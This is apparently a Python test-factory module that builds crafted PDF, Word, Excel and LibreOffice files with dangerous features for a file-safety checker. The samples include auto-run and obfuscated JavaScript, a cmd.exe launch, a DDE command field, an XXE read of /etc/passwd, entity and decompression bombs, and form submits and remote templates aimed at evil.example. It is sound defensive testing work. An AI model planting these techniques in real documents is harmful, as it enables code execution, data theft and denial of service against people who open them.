"""Makes documents that act, fetch, hide or embed something."""

import io
import zlib

from pypdf import PdfWriter

from tests.factories.evidence_files import (
    OFFICE,
    RELATIONS,
    changed,
    docx,
    odt,
    packed,
    parts_of,
    pdf,
    pdf_with_object_stream,
    photo,
    stream,
    with_text,
    xlsx,
)

TYPES, RELS, TEXT = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/document.xml"
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ALERT = b"<</S/JavaScript/JS(app.alert(1))>>"


def script() -> bytes:
    """A script that runs when the file is opened."""
    return pdf(ALERT, catalog=b"/OpenAction 4 0 R")


def disguised_script() -> bytes:
    """The same, with letters of the names written as numbers."""
    return pdf(b"<</S/J#61vaScript/#4a#53(app.alert(1))>>", catalog=b"/OpenAction 4 0 R")


def script_in_object_stream() -> bytes:
    """The same, packed so that it cannot be read in the file's bytes."""
    return pdf_with_object_stream(ALERT, catalog=b"/OpenAction 7 0 R")


def unusually_packed() -> bytes:
    """The same, packed twice."""
    return pdf_with_object_stream(
        ALERT,
        catalog=b"/OpenAction 7 0 R",
        packing=b"/Filter[/ASCIIHexDecode/FlateDecode]",
        pack=lambda content: zlib.compress(content).hex().encode() + b">",
    )


def swelling_object_stream() -> bytes:
    """Objects that become two hundred megabytes."""
    return pdf_with_object_stream(b"(" + b" " * 200_000_000 + b")")


def hidden_object() -> bytes:
    """An object inside the data of a stream, where a list of places could lead to."""
    return pdf(stream(b"\n9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n", packed=False))


def launch() -> bytes:
    """Starts a program by a link."""
    return pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]")


def opens_page() -> bytes:
    """Goes to the web when it is opened."""
    return pdf(catalog=b"/OpenAction<</S/URI/URI(https://evil.example)>>")


def acts_on_page() -> bytes:
    """Goes to the web when the page is shown."""
    return pdf(page=b"/AA<</O<</S/URI/URI(https://evil.example)>>>>")


def submits() -> bytes:
    """Sends what is entered."""
    return pdf(page=b"/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>]")


def attachment() -> bytes:
    """Has a file inside."""
    return pdf(
        stream(b"MZ", b"/Type/EmbeddedFile"),
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]>>>>",
    )


def film() -> bytes:
    """Has a film inside."""
    return pdf(page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")


def xfa() -> bytes:
    """Has a form that is a program of its own."""
    return pdf(stream(b"<xdp/>"), catalog=b"/AcroForm<</XFA 4 0 R/Fields[]>>")


def encrypted() -> bytes:
    """Needs a password."""
    writer, target = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(target)
    return target.getvalue()


def with_comment(comment: bytes) -> bytes:
    """A sound PDF with a comment in it."""
    return pdf(b"% " + comment + b"\nnull")


def and_archive() -> bytes:
    """An archive at its end, and a mark of the end behind that, in the archive's comment."""
    archive = packed({"a.exe": b"MZ"})
    ending = b"\n%%EOF"
    return pdf() + archive[:-2] + len(ending).to_bytes(2, "little") + ending


def circular() -> bytes:
    """The list of pages is its own part."""
    return pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")


def old_office() -> bytes:
    """What Word wrote until 2003, and writes for a file with a password."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


def macros() -> bytes:
    """A document with macros under the name of one without."""
    marked = with_text(docx(), TYPES, MAIN, b"application/vnd.ms-word.document.macroEnabled.main+xml")
    return changed(marked, word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0" + bytes(100))


def unlisted_macros() -> bytes:
    """The macros without their mark."""
    return changed(docx(), word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0" + bytes(100))


def _related(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return with_text(docx(), RELS, b"</Relationships>", relation.encode())


def outside_template() -> bytes:
    """Loads a template, which may have macros, when it is opened."""
    target = 'Target="https://evil.example/a.dotm" TargetMode="External"'
    relation = f'<Relationship Id="r" Type="{OFFICE}/attachedTemplate" {target}/>'
    return changed(docx(), word___rels__settings_DOT_xml_DOT_rels=RELATIONS % relation)


def outside_picture() -> bytes:
    """Tells somebody that it is being read."""
    return _related("image", "https://evil.example/pixel.png")


def link_to_program() -> bytes:
    """A link that is no web page."""
    return _related("hyperlink", "file:///C:/Windows/System32/calc.exe")


def embedded() -> bytes:
    """Another file inside."""
    return changed(docx(), word__embeddings__oleObject1_DOT_bin=b"\xd0\xcf\x11\xe0" + bytes(100))


def web_page_inside() -> bytes:
    """A web page that becomes a part of the text."""
    return _related("aFChunk", "/word/page.html", outside=False)


def program_as_picture() -> bytes:
    """Something else under the name of a picture."""
    return changed(docx(), word__media__image9_DOT_png=b"MZ\x90\x00" + bytes(100))


def command_field() -> bytes:
    """A field, cut in two, that would run a command."""
    begin = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    halves = b"".join(b"<w:r><w:instrText>%b</w:instrText></w:r>" % half for half in (b" DDE", b'AUTO "cmd" "/c calc"'))
    paragraph = b"<w:p><w:r><w:t>See </w:t></w:r>" + begin + halves + b"</w:p>"
    return with_text(docx(), TEXT, b"<w:body>", b"<w:body>" + paragraph)


def reads_files() -> bytes:
    """An entity that is a file of the machine."""
    page = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    return changed(docx(), word__styles_DOT_xml=page)


def laughs() -> bytes:
    """Entities made of entities."""
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    page = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">{steps}]><a>&a9;</a>'
    return changed(docx(), word__styles_DOT_xml=page)


def excel_macros() -> bytes:
    """A workbook with macros under the name of one without."""
    return with_text(xlsx(), TYPES, SHEET, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")


def outside_table() -> bytes:
    """A table that stands in another file."""
    return changed(xlsx(), xl__externalLinks__externalLink1_DOT_xml="<externalLink/>")


def fetching_formula() -> bytes:
    """A formula that fetches a page."""
    return with_text(xlsx(), "xl/worksheets/sheet1.xml", b"SUM(B1:B1)", b'_xlfn.WEBSERVICE("https://evil.example")')


def presentation() -> bytes:
    """Slides, which are not taken."""
    slides = b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return with_text(docx(), TYPES, MAIN, slides)


def odt_macros() -> bytes:
    """Macros of LibreOffice."""
    return odt(more={"Basic/Standard/Module1.xml": "<a/>"})


def odt_event() -> bytes:
    """A script that runs when the text is opened."""
    return odt(
        '<text:p><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/></text:p>'
    )


def odt_outside() -> bytes:
    """A picture from elsewhere."""
    return odt('<text:p><draw:frame><draw:image xlink:href="https://evil.example/p.png"/></draw:frame></text:p>')


def odt_encrypted() -> bytes:
    """A text with a password."""
    manifest = (
        '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:encryption-data/></m:manifest>'
    )
    return odt(more={"META-INF/manifest.xml": manifest})


def ods() -> bytes:
    """A table of LibreOffice."""
    return packed(parts_of(odt()) | {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})


def picture_in_word() -> bytes:
    """A sound Word file with one more picture."""
    return changed(docx(), word__media__image2_DOT_png=photo("PNG"))
